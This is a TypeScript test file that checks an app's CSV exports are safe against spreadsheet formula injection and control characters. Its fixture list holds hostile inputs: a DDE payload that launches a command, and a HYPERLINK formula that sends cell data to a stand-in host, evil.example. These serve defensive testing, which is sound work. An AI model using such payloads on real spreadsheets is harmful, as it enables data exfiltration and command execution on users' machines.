import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { writePeopleCsv, writeReadingsCsv, writeSwapsCsv } from '../../lib/carry/csv/write-csv';
import { writeStoriesCsv } from '../../lib/carry/csv/write-stories';
import type { Person } from '../../lib/ledger/person';
import type { Swap } from '../../lib/ledger/swap';
import { NOW, point, story } from '../lib/ledger/stories/examples';
import { HOSTILE_TEXTS } from './hostile-text';

/** What a spreadsheet takes for a formula; a number below zero is none. */
const FORMULA = /^[=+\-@\t\r\n＝＋－＠](?!\d[\d.]*$)/;

const TEXTS = [
  ...HOSTILE_TEXTS,
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.example/?"&A1;"you")',
  '-1+1|cmd',
  '\u0000=1',
  '\u0007\t=1',
  'a "quoted"\r\n=cell',
  'x;=1,=2\t=3|=4',
];

function personOf(text: string): Person {
  return {
    key: text,
    id: text,
    username: text,
    name: text,
    aliases: [text, text],
    formerNames: [text],
    tags: [text],
    notes: [{ entryId: 'n', at: NOW, text }],
  };
}

function swapOf(text: string): Swap {
  return {
    personKey: text,
    yours: { state: 'done', doneAt: NOW, evidence: 'ownClick' },
    theirs: { state: 'open' },
    state: 'theyOwe',
    openedAt: NOW,
    dueAt: NOW,
    place: { url: text, title: text, quoted: text },
  };
}

/** Every sheet there is, with this text wherever a text can stand. */
function sheetsOf(text: string): readonly string[] {
  const person = personOf(text);
  const kept = {
    ...story(text, {
      tags: [text, text],
      lifetime: [point({ followersGained: -1 })],
      months: { [text]: [point()] },
    }),
    url: text,
  };
  return [
    writePeopleCsv([{ person }]),
    writeSwapsCsv([{ person, swap: swapOf(text) }], NOW),
    writeReadingsCsv([{ at: NOW, count: 1, exact: true }]),
    writeStoriesCsv([kept], []),
  ];
}

describe('every sheet, read by another program', () => {
  it.each(TEXTS)('with %j everywhere has no cell that begins a formula, and no control sign', (text) => {
    for (const sheet of sheetsOf(text)) {
      const rows = parse(sheet, { bom: true, record_delimiter: '\r\n' }) as string[][];
      expect(rows.length).toBeGreaterThan(1);
      for (const cell of rows.flat()) {
        expect(cell).not.toMatch(FORMULA);
        expect(cell).not.toMatch(/[^\P{Cc}\t\r\n]/u);
      }
    }
  });
});
